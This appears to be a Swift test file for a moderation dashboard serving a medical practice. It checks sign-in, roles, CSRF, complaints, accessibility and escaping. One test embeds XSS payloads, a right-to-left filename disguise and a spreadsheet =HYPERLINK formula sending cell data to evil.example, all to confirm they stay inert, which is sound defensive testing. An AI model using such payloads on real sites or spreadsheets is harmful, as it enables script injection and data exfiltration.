import DecorumCore
@testable import DecorumServer
import DecorumStore
import Foundation
import HTTPTypes
import Testing

/// The moderators' dashboard in real headless Chromium, against the whole service on loopback: the Graph
/// API simulator sends signed webhooks, Decorum judges and queues, a moderator decides in the browser, and
/// the worker carries the decision out on the simulated Page. Skipped, with the reason printed, where
/// there is no browser.
@Suite("The dashboard in a real browser")
struct DashboardBrowserTests {
    /// Abuse waits for a person (hidden meanwhile), so the queue has something in it.
    /// With `everything`, every rule waits for a person, as a practice starting out might run it.
    static func options(everything: Bool = false) -> ServiceHarness.Options {
        var options = ServiceHarness.Options()
        options.dashboard = true
        options.setMode(.approve, for: everything ? nil : .abusive)
        return options
    }

    /// Runs `body` with the service (dashboard on) and a browser; the harness is taken first, then the browser.
    func withDashboard(everything: Bool = false, _ body: @escaping @Sendable (ServiceHarness, WebDriver) async throws -> Void) async throws {
        _ = try BrowserSession.require()
        try await ServiceHarness.run(Self.options(everything: everything)) { h in
            try await BrowserSession.withBrowser { driver in try await body(h, driver) }
        }
    }

    /// Signs in through the log-in form, as a person would, and waits for the page it leads to.
    func signIn(_ driver: WebDriver, _ h: ServiceHarness, as login: String, then path: String) async throws {
        try await driver.navigate(to: h.baseURL + path)
        try await driver.waitForElement("#login").sendKeys(login)
        try await driver.element("#password").sendKeys(ServiceHarness.password)
        try await driver.element("form.login button[type=submit]").click()
        try await driver.waitUntil("the page after signing in") { try await driver.currentURL().hasSuffix(path) }
    }

    func signOut(_ driver: WebDriver) async throws {
        try await driver.element("form.signout button").click()
        _ = try await driver.waitForElement("#login")
    }

    @Test("a moderator signs in, sees the queued comment, approves it, and the delete shows in the item's timeline and the audit log")
    func approveFromTheQueue() async throws {
        try await withDashboard { h, driver in
            try await h.addUser("jo", name: "Jo Ashworth", role: .moderator)
            try await h.addUser("pm", name: "Helen Marsh", role: .practiceManager)
            let id = try await h.comment("You lot are a bunch of useless f***ing idiots, absolute scum", by: "Darren Pike", id: "7710000000000001")
            _ = try await h.item(id, reaches: [.awaitingApproval])

            // An anonymous visit goes to the log-in page and comes back to the queue afterwards.
            try await signIn(driver, h, as: "jo", then: "/queue")
            let row = try await driver.waitForElement("table.queue tbody tr")
            #expect(try await row.element("p.comment").text() == "You lot are a bunch of useless f***ing idiots, absolute scum")
            #expect(try await row.text().contains("Darren Pike"))
            #expect(try await driver.elements("table.queue tbody tr").count == 1)

            try await row.element("a[data-open]").click()
            try await driver.waitUntil("the item page") { try await driver.currentURL().contains("/items/") }
            #expect(try await driver.element("#text").text() == "You lot are a bunch of useless f***ing idiots, absolute scum")
            try await driver.element("form[action$='/approve'] button[type=submit]").click()
            try await driver.waitUntil("back at the queue, with the approval confirmed") {
                try await driver.currentURL().contains("/queue?done=approved")
            }
            #expect(try await driver.element(".flash").text().hasPrefix("Approved"))

            // The worker deletes the comment on the simulated Page; the item's timeline says so, with Graph's answer.
            _ = try await h.item(id, reaches: [.actioned])
            #expect(try await h.actionKinds(on: id) == ["hide", "delete"])
            try await driver.navigate(to: h.baseURL + "/items/" + id.rawValue)
            let timeline = try await driver.waitForElement("#timeline")
            let timelineText = try await timeline.text()
            let deleteRow = try #require(try await timeline.elements("tbody tr").asyncFirst { try await $0.text().hasPrefix("Delete") },
                                         "timeline: \(timelineText)")
            let deleteText = try await deleteRow.text()
            #expect(deleteText.contains("Done"), "timeline row: \(deleteText)")
            #expect(deleteText.contains("approved by jo"), "timeline row: \(deleteText)")
            // Graph's answer, or the webhook that confirmed the removal if it came first.
            #expect(deleteText.contains("{\""), "the platform's answer is shown: \(deleteText)")
            try Screenshots.save(try await driver.fullPageScreenshot(), name: "item")

            // A moderator has no audit page; the practice manager has, and finds the approval and the delete in it.
            try await driver.navigate(to: h.baseURL + "/audit")
            #expect(try await driver.element("h1").text() == "This page is not for your role")
            try await signOut(driver)
            try await signIn(driver, h, as: "pm", then: "/audit")
            let audit = try await driver.element("main").text()
            #expect(audit.contains("approved"), "audit page: \(audit.prefix(400))")
            #expect(audit.contains("jo"))
            #expect(audit.contains("action_done") || audit.contains("Action done"), "audit page: \(audit.prefix(400))")
            try await driver.navigate(to: h.baseURL + "/audit?item=" + id.rawValue)
            let rows = try await driver.elements("table tbody tr")
            #expect(rows.count >= 3, "the item's own trail: received or judged, approved, action done")
        }
    }

    @Test("settings are for admins: a moderator is refused and has no link to them; an admin sees the users")
    func settingsForAdminsOnly() async throws {
        try await withDashboard { h, driver in
            try await h.addUser("jo", name: "Jo Ashworth", role: .moderator)
            try await h.addUser("root", name: "Sam Patel", role: .admin)
            try await signIn(driver, h, as: "jo", then: "/queue")
            let menu = try await driver.element("nav[aria-label=Main]").text()
            #expect(!menu.contains("Settings"), "a moderator's menu: \(menu)")
            try await driver.navigate(to: h.baseURL + "/settings")
            #expect(try await driver.element("h1").text() == "This page is not for your role")
            #expect(try await driver.element("main").text().contains("admin"))
            #expect(try await driver.pageSource().contains("Jo Ashworth (Moderator)"))
            #expect(try await driver.elements("form[action^='/settings/users']").isEmpty)

            try await signOut(driver)
            try await signIn(driver, h, as: "root", then: "/settings")
            #expect(try await driver.element("nav[aria-label=Main]").text().contains("Settings"))
            let page = try await driver.element("main").text()
            #expect(page.contains("Jo Ashworth") && page.contains("Sam Patel"), "settings page: \(page.prefix(400))")
        }
    }

    @Test("a form without its CSRF token is refused, and nothing is approved")
    func formWithoutCSRF() async throws {
        try await withDashboard { h, driver in
            try await h.addUser("jo", name: "Jo Ashworth", role: .moderator)
            let id = try await h.comment("Absolute scum the lot of you, rot in hell", by: "Wayne Tudor", id: "7710000000000009")
            _ = try await h.item(id, reaches: [.awaitingApproval])
            try await signIn(driver, h, as: "jo", then: "/items/" + id.rawValue)
            let removed = try await driver.execute("""
                const form = document.querySelector("form[action$='/approve']");
                const token = form.querySelector("input[name=csrf]");
                token.remove();
                return form.querySelectorAll("input[name=csrf]").length;
                """)
            #expect(removed.int == 0)
            try await driver.element("form[action$='/approve'] button[type=submit]").click()
            try await driver.waitUntil("the refusal") { try await driver.element("h1").text() == "This form has expired" }
            #expect(try await driver.element("main").text().contains("Nothing was changed"))
            #expect(try await h.store.items.item(id)?.status == .awaitingApproval)
            #expect(try await h.store.audit.list(for: id).allSatisfy { $0.event != "approved" })
            #expect(try await h.actionKinds(on: id) == ["hide"])

            // A stale token is refused in the same way.
            try await driver.navigate(to: h.baseURL + "/items/" + id.rawValue)
            _ = try await driver.execute("document.querySelector(\"form[action$='/approve'] input[name=csrf]\").value = 'AAAA' + 'B'.repeat(39)")
            try await driver.element("form[action$='/approve'] button[type=submit]").click()
            try await driver.waitUntil("the refusal") { try await driver.element("h1").text() == "This form has expired" }
            #expect(try await h.store.items.item(id)?.status == .awaitingApproval)
        }
    }

    @Test("in the queue, j moves to the next item and a approves the one in focus; a row's Approve button approves just that row")
    func keyboardAndRowApproval() async throws {
        try await withDashboard { h, driver in
            try await h.addUser("jo", name: "Jo Ashworth", role: .moderator)
            let first = try await h.comment("You lot are a bunch of useless f***ing idiots, absolute scum", by: "Darren Pike", id: "7710000000000001")
            _ = try await h.item(first, reaches: [.awaitingApproval])
            let second = try await h.comment("Absolute scum the lot of you, rot in hell", by: "Wayne Tudor", id: "7710000000000009")
            _ = try await h.item(second, reaches: [.awaitingApproval])
            let third = try await h.comment("Bunch of useless idiots, the lot of you. Scum", by: "Carl Rigby", id: "7710000000000031")
            _ = try await h.item(third, reaches: [.awaitingApproval])
            try await signIn(driver, h, as: "jo", then: "/queue")
            #expect(try await driver.elements("tr[data-row]").count == 3)

            // Keyboard: from the first row, j moves to the second, and a approves it.
            try await driver.element("tr[data-row='1'] a[data-open]").sendKeys("j")
            #expect(try await driver.activeElement().attribute("data-open") == "2")
            try await driver.activeElement().sendKeys("a")
            try await driver.waitUntil("the approval") { try await driver.currentURL().contains("done=approved") }
            _ = try await h.item(second, reaches: [.actioned])
            #expect(try await h.store.items.item(first)?.status == .awaitingApproval)
            #expect(try await h.store.items.item(third)?.status == .awaitingApproval)

            // A click on a row's own button approves that row alone, without the bulk confirmation.
            #expect(try await driver.elements("tr[data-row]").count == 2)
            let row = try #require(try await driver.elements("tr[data-row]").asyncFirst { try await $0.text().contains("Carl Rigby") })
            try await row.element("button[data-approve]").click()
            try await driver.waitUntil("the approval") { try await driver.elements("tr[data-row]").count == 1 }
            _ = try await h.item(third, reaches: [.actioned])
            #expect(try await h.store.items.item(first)?.status == .awaitingApproval)
            #expect(try await h.store.actions.list(for: third).first { $0.kind == .delete }?.approvedBy == "jo")
        }
    }

    @Test("the practice manager takes a complaint up as a formal complaint: the acknowledgement is due in 3 working days, listed until sent, and nothing is said in public")
    func formalComplaint() async throws {
        try await withDashboard { h, driver in
            try await h.addUser("karen", name: "Karen Doyle", role: .practiceManager)
            try await h.addUser("jo", name: "Jo Ashworth", role: .moderator)
            let id = try await h.comment("Waited 40 minutes past my appointment time again today and nobody even said sorry",
                                         by: "Gary Nuttall", id: "7710000000000003")
            let stored = try await h.item(id, reaches: [.actioned])
            let local = ReportCalendar.london.localDay(stored.firstSeen)
            let due = ComplaintAcknowledgement.due(receivedOn: try #require(CalendarDay(year: local.year, month: local.month, day: local.day)))

            // A moderator sees the item but cannot take it up, and has no complaints page.
            try await signIn(driver, h, as: "jo", then: "/items/" + id.rawValue)
            #expect(try await driver.elements("form[action$='/formal-complaint']").isEmpty)
            #expect(!(try await driver.element("nav[aria-label=Main]").text().contains("Complaints")))
            try await signOut(driver)

            try await signIn(driver, h, as: "karen", then: "/items/" + id.rawValue)
            try await driver.element("form[action$='/formal-complaint'] button").click()
            try await driver.waitUntil("the complaint taken up") { try await driver.currentURL().contains("done=formal") }
            let panel = try await driver.element("section.formal").text()
            #expect(panel.contains("Acknowledge by \(FormalComplaintRow.label(due))") || panel.contains("Acknowledge today"), "panel: \(panel)")
            #expect(try await h.store.formalComplaints.complaint(for: id)?.acknowledgeBy == due)
            #expect(try await h.store.audit.list(for: id).contains { $0.event == "formal_complaint_marked" && $0.actor == "karen" })

            // Never answered in public, whoever asks.
            let (refused, _) = try await h.api(.post, "/items/\(id)/actions", .object([
                ("kind", .string("public_reply")), ("reason", .string("Say sorry")), ("text", .string("We are sorry to read this.")),
            ]))
            #expect(refused == .conflict)

            try await driver.navigate(to: h.baseURL + "/complaints")
            let list = try await driver.element("main").text()
            #expect(list.contains(id.rawValue) && list.contains(FormalComplaintRow.label(due)), "complaints page: \(list.prefix(300))")
            try await driver.navigate(to: h.baseURL + "/items/" + id.rawValue)
            try await driver.element("form[action$='/formal-complaint/acknowledge'] button").click()
            try await driver.waitUntil("the acknowledgement recorded") { try await driver.currentURL().contains("done=formal-acknowledged") }
            #expect(try await driver.element("section.formal").text().contains("Acknowledged by karen"))
            try await driver.navigate(to: h.baseURL + "/complaints")
            #expect(try await driver.element("main").text().contains("Every formal complaint has been acknowledged"))
            #expect(try await h.simulatorActions().done.allSatisfy { $0["kind"] as? String != "public_reply" })
        }
    }

    /// A morning's comments on the practice's post, in their authors' own words.
    static let morning: [(text: String, name: String, id: String)] = [
        ("Absolute shambles. Useless the lot of you, I hope the place burns down with you all in it", "Darren Pike", "7710000000000021"),
        ("My neighbour Pat Wilson at 14 Ashby Road is back on the methadone, you lot should check on her", "Lorraine Birch", "7710000000000022"),
        ("I don't see the point any more. Nobody at that surgery listens and I've got a box of tablets saved up", "Anon Ymous", "7710000000000023"),
        ("Dr Raman is a crook who fiddles the prescriptions for cash, everyone knows it", "Neil Hextall", "7710000000000024"),
        ("Waited 40 minutes past my appointment time again today and nobody even said sorry", "Gary Nuttall", "7710000000000025"),
        ("Is the flu clinic still on Saturday? Can I bring my mum who is 82", "Maureen Tansley", "7710000000000026"),
    ]

    @Test("the queue puts urgent items first, each with the clause it breaks; the pictures for the README are taken here")
    func urgentFirst() async throws {
        try await withDashboard(everything: true) { h, driver in
            try await h.addUser("jo", name: "Jo Ashworth", role: .moderator)
            var ids = [ItemID]()
            for comment in Self.morning { ids.append(try await h.comment(comment.text, by: comment.name, id: comment.id)) }
            for id in ids { _ = try await h.item(id, reaches: Set(ItemStatus.allCases).subtracting([.received])) }
            let waiting = try await h.store.items.list(ItemQuery(statuses: ItemStatus.allCases.filter(\.needsPerson), limit: 50))
            #expect(waiting.count >= 3, "several comments wait for a person")
            try await signIn(driver, h, as: "jo", then: "/queue")
            let rows = try await driver.elements("table.queue tbody tr")
            #expect(rows.count == waiting.count)
            var urgency = [Bool]()
            for row in rows { urgency.append((try await row.attribute("class") ?? "").contains("urgent")) }
            #expect(urgency.contains(true), "the safeguarding concern is urgent")
            #expect(urgency == urgency.sorted { $0 && !$1 }, "urgent rows first: \(urgency)")
            for row in rows {
                let why = try await row.elements("td")[2].text()
                let whole = try await row.text()
                #expect(!why.trimmingCharacters(in: .whitespacesAndNewlines).isEmpty, "each row says why: \(whole)")
            }
            try Screenshots.save(try await driver.screenshot(), name: "queue")

            try await rows[0].element("a[data-open]").click()
            _ = try await driver.waitForElement("#text")
            #expect(try await driver.element("main").text().contains("Decorum's decision"))

            // Two approvals from the queue, then the month's report as the practice manager reads it.
            for _ in 0..<2 {
                try await driver.navigate(to: h.baseURL + "/queue")
                let row = try await driver.element("tr[data-row]")
                let href = try #require(try await row.element("a[data-open]").attribute("href"))
                try await row.element("button[data-approve]").click()
                try await driver.waitUntil("back at the queue") { try await driver.currentURL().contains("done=approved") }
                let approved = ItemID(String(try #require(href.split(separator: "/").last)).removingPercentEncoding ?? "")
                #expect(try await h.store.audit.list(for: approved).contains { $0.event == "approved" && $0.actor == "jo" }, "\(approved)")
            }
            try await h.eventually { try await h.store.items.list(ItemQuery(statuses: [.actioned, .resolved], limit: 50)).count >= 2 }
            try await signOut(driver)
            try await h.addUser("karen", name: "Karen Doyle", role: .practiceManager)
            try await signIn(driver, h, as: "karen", then: "/reports")
            let report = try await driver.element("main").text()
            #expect(report.contains("\(Self.morning.count)"), "the report counts the morning's items: \(report.prefix(300))")
            #expect(try await driver.elements("main svg").count >= 2, "the report's charts")
            try Screenshots.save(try await driver.fullPageScreenshot(), name: "report")
        }
    }

    /// Fields without a label, and text whose contrast with what is behind it is below WCAG AA (4.5:1, or 3:1 for large text).
    static let accessibilityProblems = """
        const problems = [];
        for (const field of document.querySelectorAll("input:not([type=hidden]), select, textarea")) {
            if (field.offsetParent === null) continue;  // not shown (a password manager's hidden user-name field)
            if (!(field.labels && field.labels.length) && !field.getAttribute("aria-label") && !field.getAttribute("aria-labelledby")) {
                problems.push("no label: " + (field.name || field.id || field.outerHTML.slice(0, 60)));
            }
        }
        const rgb = (text) => (text.match(/[0-9.]+/g) || []).map(Number);
        const luminance = ([r, g, b]) => {
            const f = (c) => { c /= 255; return c <= 0.03928 ? c / 12.92 : Math.pow((c + 0.055) / 1.055, 2.4); };
            return 0.2126 * f(r) + 0.7152 * f(g) + 0.0722 * f(b);
        };
        const background = (element) => {
            for (let e = element; e; e = e.parentElement) {
                const c = rgb(getComputedStyle(e).backgroundColor);
                if (c.length === 3 || (c.length === 4 && c[3] > 0.5)) return c.slice(0, 3);
            }
            return [255, 255, 255];
        };
        for (const element of document.querySelectorAll("body *")) {
            const own = [...element.childNodes].some((n) => n.nodeType === 3 && n.textContent.trim().length > 0);
            if (!own || element.offsetParent === null) continue;
            const style = getComputedStyle(element);
            const fg = luminance(rgb(style.color)), bg = luminance(background(element));
            const ratio = (Math.max(fg, bg) + 0.05) / (Math.min(fg, bg) + 0.05);
            const size = parseFloat(style.fontSize), bold = Number(style.fontWeight) >= 700;
            const needed = size >= 24 || (bold && size >= 18.66) ? 3 : 4.5;
            if (ratio < needed) problems.push("contrast " + ratio.toFixed(2) + " < " + needed + ": " + element.tagName + " " + element.textContent.trim().slice(0, 40));
        }
        return problems;
        """

    @Test("every field of the queue, an item, the alerts and the policy has a label, and all text meets WCAG AA contrast")
    func accessibility() async throws {
        try await withDashboard { h, driver in
            try await h.addUser("pm", name: "Helen Marsh", role: .practiceManager)
            let id = try await h.comment("You lot are a bunch of useless f***ing idiots, absolute scum", by: "Darren Pike", id: "7710000000000001")
            _ = try await h.item(id, reaches: [.awaitingApproval])
            try await signIn(driver, h, as: "pm", then: "/queue")
            for path in ["/queue", "/items/" + id.rawValue, "/alerts", "/policy", "/audit", "/complaints", "/reports", "/account/password"] {
                try await driver.navigate(to: h.baseURL + path)
                let problems = try await driver.execute(Self.accessibilityProblems).array?.compactMap(\.string) ?? ["the check did not run"]
                #expect(problems.isEmpty, "\(path): \(problems.prefix(8))")
                #expect(try await driver.elements("a.skip[href='#main']").count == 1, "\(path) has a skip link")
            }
            try await driver.navigate(to: h.baseURL + "/queue")
            // The keyboard reaches the first thing a moderator needs without a mouse.
            _ = try await driver.execute("document.activeElement.blur()")
            #expect(try await driver.execute("return document.querySelector('a.skip').tabIndex").int == 0)
        }
    }

    static let hostile = "Utter scum, the lot of you <script>window.__pwned = 1</script> \"><img src=x onerror=\"window.__pwned = 2\"> "
        + "<a href=\"javascript:window.__pwned = 3\">click</a> javascript:window.__pwned=4 \u{202E}gnp.exe"

    @Test("hostile text in a comment stays text in the queue, the item page, the audit log, the report and both CSV files: no script, image, handler, link or formula comes of it")
    func hostileText() async throws {
        try await withDashboard { h, driver in
            try await h.addUser("pm", name: "Helen Marsh", role: .practiceManager)
            let id = try await h.comment(Self.hostile, by: "<b>Kev</b> \u{202E}nosbor", id: "7710000000000013")
            _ = try await h.item(id, reaches: [.awaitingApproval])
            let formula = try await h.comment("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") you lot are useless scum", by: "Kev Rowe",
                                              id: "7710000000000014")
            _ = try await h.item(formula, reaches: [.awaitingApproval])
            try await signIn(driver, h, as: "pm", then: "/queue")
            _ = try await driver.waitForElement("table.queue tbody tr")
            try await expectInert(driver)
            let row = try #require(try await driver.elements("table.queue tbody tr").asyncFirst { try await $0.text().contains("__pwned = 1") })
            let comment = try await row.element("p.comment")
            let shown = try await comment.property("textContent").string ?? ""
            #expect(shown.contains("<script>window.__pwned = 1</script>"), "shown: \(shown)")
            #expect(shown.contains("<img src=x onerror="))
            #expect(!shown.contains("\u{202E}"), "the override is shown by its code, not obeyed")
            #expect(shown.contains("U+202E"), "shown: \(shown)")
            #expect(try await row.text().contains("<b>Kev</b>"))

            try await driver.navigate(to: h.baseURL + "/items/" + id.rawValue)
            _ = try await driver.waitForElement("#text")
            try await expectInert(driver)
            #expect(try await driver.element("#text").property("textContent").string?.contains("<a href=\"javascript:") == true)

            try await driver.navigate(to: h.baseURL + "/audit")
            try await expectInert(driver)
            let csv = try await driver.execute("""
                const request = new XMLHttpRequest();
                request.open("GET", "/audit.csv", false);
                request.send();
                return [request.status, request.getResponseHeader("Content-Type"), request.responseText];
                """).array ?? []
            #expect(csv.first?.int == 200)
            #expect(csv.dropFirst().first?.string?.hasPrefix("text/csv") == true)
            try Self.expectGuarded(csv.last?.string ?? "")

            // Overridden, the hostile comment appears in the month's report and in its items file, still inert.
            try await driver.navigate(to: h.baseURL + "/items/" + id.rawValue)
            try await driver.element("#dismiss-reason").sendKeys("Testing what the page does with markup")
            try await driver.element("form[action$='/dismiss'] button[type=submit]").click()
            try await driver.waitUntil("the dismissal") { try await driver.currentURL().contains("done=dismissed") }
            try await driver.navigate(to: h.baseURL + "/reports")
            _ = try await driver.waitForElement("main h1")
            try await expectInert(driver)
            #expect(try await driver.element("main").text().contains("<script>"), "the override is listed with its words, as text")
            let items = try await driver.execute("""
                const request = new XMLHttpRequest();
                request.open("GET", "/reports/items.csv?text=1", false);
                request.send();
                return [request.status, request.responseText];
                """).array ?? []
            #expect(items.first?.int == 200)
            let itemsCSV = items.last?.string ?? ""
            try Self.expectGuarded(itemsCSV)
            #expect(itemsCSV.contains("'=HYPERLINK("), "the formula is kept, as text: \(itemsCSV.prefix(600))")
            #expect(itemsCSV.contains("<script>window.__pwned = 1</script>"))
        }
    }

    /// No cell a spreadsheet would run as a formula, and no hidden direction override.
    static func expectGuarded(_ csv: String) throws {
        let lines = csv.split(separator: "\r\n")
        #expect(lines.count > 1)
        for line in lines {
            for cell in cells(String(line)) {
                #expect(!(cell.first.map { "=+-@\t\r".contains($0) } ?? false), "a cell a spreadsheet would run: \(cell)")
                #expect(!cell.contains("\u{202E}"))
            }
        }
    }

    /// Nothing from a comment ran, loaded or became a link on the page now shown.
    func expectInert(_ driver: WebDriver) async throws {
        #expect(try await driver.execute("return typeof window.__pwned").string == "undefined")
        #expect(try await driver.execute("return document.querySelectorAll('img, [onerror], b').length").int == 0)
        #expect(try await driver.execute("""
            return [...document.querySelectorAll('a')].filter(a => a.protocol !== 'http:' && a.protocol !== 'https:').length
            """).int == 0)
        #expect(try await driver.execute("""
            return [...document.scripts].every(s => s.src.endsWith('/static/app.js'))
            """).bool == true)
        #expect(!(try await driver.execute("return document.body.innerText").string ?? "").contains("\u{202E}"))
    }

    /// The cells of one RFC 4180 line (quotes undone).
    static func cells(_ line: String) -> [String] {
        var cells = [String]()
        var cell = ""
        var quoted = false
        var chars = Array(line)[...]
        while let c = chars.popFirst() {
            switch (c, quoted) {
            case ("\"", true) where chars.first == "\"": cell.append("\""); chars.removeFirst()
            case ("\"", _): quoted.toggle()
            case (",", false): cells.append(cell); cell = ""
            default: cell.append(c)
            }
        }
        cells.append(cell)
        return cells
    }
}

extension Array {
    /// The first element for which the asynchronous `predicate` holds.
    func asyncFirst(where predicate: (Element) async throws -> Bool) async rethrows -> Element? {
        for element in self where try await predicate(element) { return element }
        return nil
    }
}
